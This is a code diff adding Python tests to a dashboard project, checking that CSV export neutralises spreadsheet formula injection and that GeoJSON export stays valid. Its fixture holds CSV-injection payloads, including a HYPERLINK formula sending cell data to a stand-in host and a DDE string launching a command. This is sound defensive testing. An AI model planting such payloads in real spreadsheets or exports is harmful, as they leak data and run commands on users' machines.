@@ -17,6 +17,7 @@ from dashboard.data import csv_format, schema
 from dashboard.data.csv_export import events_to_csv
 from dashboard.data.csv_format import CellError, decode_cell, encode_cell
 from dashboard.data.importer import ImportFailed, import_events
+from dashboard.data.loading import load_dataset
 from dashboard.web.app import create_app
 
 
@@ -157,3 +158,87 @@ def test_read_only_columns_are_ignored_or_checked(data_dir, tmp_path):
 def test_readme_documents_the_columns():
     readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
     assert f"<!-- table:csv -->\n{csv_format.markdown_table()}\n<!-- /table -->" in readme
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "summary": "+1+cmd|' /C calc'!A0",
+    "notes": "-2+3",
+    "actors": ["@SUM(1+1)", "'already quoted"],
+    "figures": {"=killed": "1"},
+}
+
+
+def formula_like(cell: str) -> bool:
+    return cell.startswith(csv_format.FORMULA_STARTS)
+
+
+def test_hostile_text_is_exported_inert_and_imported_back_unchanged(
+    data_dir, dataset, edit_feature, tmp_path
+):
+    """CSV injection (OWASP): no text cell of either export starts as a formula, and
+    export then import is still the identity."""
+
+    def hostile(feature):
+        feature["properties"].update(HOSTILE)
+
+    edit_feature(data_dir, schema.EVENTS_FILE, "E010", hostile)
+    before = features_by_id(data_dir)
+    command = events_to_csv(data_dir)
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(command))}
+    row = rows["E010"]
+    assert row["title"] == "'" + HOSTILE["title"]
+    assert row["summary"].startswith("'+") and row["notes"] == "'-2+3"
+    assert row["actors"].startswith("'@") and not formula_like(row["figures"])
+    for values in rows.values():
+        text_cells = [v for k, v in values.items() if k not in ("lon", "lat")]
+        assert not any(formula_like(cell) for cell in text_cells), values["id"]
+    exported = tmp_path / "events.csv"
+    exported.write_text(command, encoding="utf-8")
+    import_events(exported, data_dir)
+    assert features_by_id(data_dir) == before
+    assert before["E010"]["properties"]["actors"] == HOSTILE["actors"]
+
+
+def test_http_export_neutralises_hostile_titles_and_keeps_numbers(data_dir, edit_feature):
+    edit_feature(data_dir, schema.EVENTS_FILE, "E010", lambda f: f["properties"].update(HOSTILE))
+    dataset = load_dataset(data_dir)
+    client = create_app(Settings(data_dir=data_dir), dataset=dataset).server.test_client()
+    body = client.get("/export/events.csv").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(body)))
+    row = next(r for r in rows if r["id"] == "E010")
+    assert row["title"] == "'" + HOSTILE["title"]
+    for values in rows:
+        if values["lon"]:  # numbers stay numbers, never quoted (a negative one too)
+            float(values["lon"]), float(values["lat"])
+        assert not any(formula_like(v) for k, v in values.items() if k not in ("lon", "lat"))
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'", "''=x", "plain", "", "a=b"]
+)
+def test_neutralise_is_undone_by_restore(text):
+    cell = csv_format.neutralise(text)
+    assert csv_format.restore(cell) == text
+    assert not formula_like(cell)
+
+
+def test_geojson_export_with_hostile_titles_is_rfc7946_that_gdal_reads(data_dir, edit_feature):
+    """The GeoJSON export keeps text as it is (no spreadsheet reads it) and stays a valid
+    RFC 7946 document: GDAL's GeoJSON driver reads every feature back."""
+    import pyogrio
+
+    edit_feature(data_dir, schema.EVENTS_FILE, "E010", lambda f: f["properties"].update(HOSTILE))
+    dataset = load_dataset(data_dir)
+    client = create_app(Settings(data_dir=data_dir), dataset=dataset).server.test_client()
+    response = client.get("/export/events.geojson")
+    assert response.mimetype == "application/geo+json"
+    doc = json.loads(response.get_data(as_text=True))
+    assert doc["type"] == "FeatureCollection" and "crs" not in doc  # RFC 7946: WGS 84 only
+    frame = pyogrio.read_dataframe(io.BytesIO(response.get_data()))
+    assert len(frame) == len(doc["features"]) == len(dataset.events)
+    assert frame.crs.to_epsg() == 4326
+    titles = dict(zip(frame["id"], frame["title"], strict=True))
+    assert titles["E010"] == HOSTILE["title"]
+    minx, miny, maxx, maxy = frame.total_bounds
+    assert 44 < minx <= maxx < 48 and 38 < miny <= maxy < 41  # lon, lat order
